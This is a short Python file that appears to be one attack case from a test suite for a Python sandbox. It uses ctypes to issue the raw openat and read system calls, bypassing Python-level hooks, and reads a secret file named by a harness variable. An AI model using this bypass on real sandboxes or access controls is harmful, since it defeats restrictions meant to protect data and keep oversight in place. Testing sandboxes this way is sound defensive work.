"""Makes the system call `openat` itself, past all that Python could have replaced."""

import ctypes
import os


def attack(A):
    openat, read = {"x86_64": (257, 0), "aarch64": (56, 63)}[os.uname().machine]
    libc = ctypes.CDLL(None, use_errno=True)
    here, none = ctypes.c_long(-100), ctypes.c_long(0)
    descriptor = libc.syscall(ctypes.c_long(openat), here, TARGET["secret"].encode(), none, none)
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), "openat")
    buffer = ctypes.create_string_buffer(100)
    size = ctypes.c_long(100)
    libc.syscall(ctypes.c_long(read), ctypes.c_long(descriptor), buffer, size)
    return buffer.value.decode()
